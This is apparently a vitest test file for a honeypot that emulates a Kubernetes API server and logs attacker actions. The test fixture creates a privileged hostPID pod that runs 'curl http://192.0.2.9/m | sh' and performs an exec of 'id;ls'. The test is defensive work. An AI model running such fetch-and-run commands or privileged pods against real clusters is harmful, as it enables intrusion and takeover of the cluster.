import { connect } from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Served, serve } from '../fixture.ts';
import { kubernetes } from './kubernetes.ts';

async function ask(
  port: number,
  method: string,
  target: string,
  body = '',
): Promise<{ status: number; body: string }> {
  const socket = connect({ port, host: '127.0.0.1', rejectUnauthorized: false });
  socket.end(`${method} ${target} HTTP/1.0\r\nHost: x\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
  let said = '';
  for await (const piece of socket) said += (piece as Buffer).toString('latin1');
  return { status: Number(said.split(' ')[1]), body: said.slice(said.indexOf('\r\n\r\n') + 4) };
}

describe('the API server', () => {
  let live: Served;
  beforeAll(async () => {
    live = await serve(kubernetes, { version: 'v1.28.15' }, { kind: 'kubernetes-node' });
  });
  afterAll(() => live.close());

  it('says its version and what it has', async () => {
    expect(JSON.parse((await ask(live.port, 'GET', '/version')).body)).toMatchObject({
      gitVersion: 'v1.28.15',
      platform: 'linux/amd64',
    });
    const { items } = JSON.parse((await ask(live.port, 'GET', '/api/v1/namespaces/kube-system/pods')).body);
    expect(items.map(({ metadata }: { metadata: { name: string } }) => metadata.name).join()).toContain(
      'kube-apiserver-',
    );
    const secrets = JSON.parse((await ask(live.port, 'GET', '/api/v1/secrets')).body);
    expect(secrets.items[0].data.password).toMatch(/=*$/);
    expect((await ask(live.port, 'GET', '/api/v1/foos')).status).toBe(404);
  });

  it('takes a pod, tells what it would run, and shows it afterwards', async () => {
    const pod = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'kube-helper' },
      spec: {
        hostPID: true,
        containers: [
          {
            name: 'a',
            image: '192.0.2.9/x',
            command: ['sh', '-c', 'curl http://192.0.2.9/m | sh'],
            securityContext: { privileged: true },
          },
        ],
      },
    };
    expect(
      (await ask(live.port, 'POST', '/api/v1/namespaces/default/pods', JSON.stringify(pod))).status,
    ).toBe(201);
    expect(
      JSON.parse((await ask(live.port, 'GET', '/api/v1/namespaces/default/pods/kube-helper')).body),
    ).toMatchObject({ kind: 'Pod', status: { phase: 'Pending' } });
    expect(live.told('command')).toContainEqual({
      kind: 'command',
      input: 'sh -c curl http://192.0.2.9/m | sh',
      ok: true,
      detail: { how: 'container', image: '192.0.2.9/x', host: true },
    });
    expect(live.told('download').map(({ url }) => url)).toEqual([
      'docker://192.0.2.9/x',
      'http://192.0.2.9/m',
    ]);
    await ask(
      live.port,
      'POST',
      '/api/v1/namespaces/default/pods/kube-helper/exec?command=sh&command=-c&command=id%3Bls&stdin=true',
    );
    expect(live.told('command').at(-1)).toMatchObject({
      input: 'sh -c id;ls',
      ok: false,
      detail: { how: 'exec', pod: 'default/kube-helper' },
    });
    expect(live.told('fingerprint').map(({ method }) => method)).toContain('ja4');
    expect(live.faults).toEqual([]);
  });
});
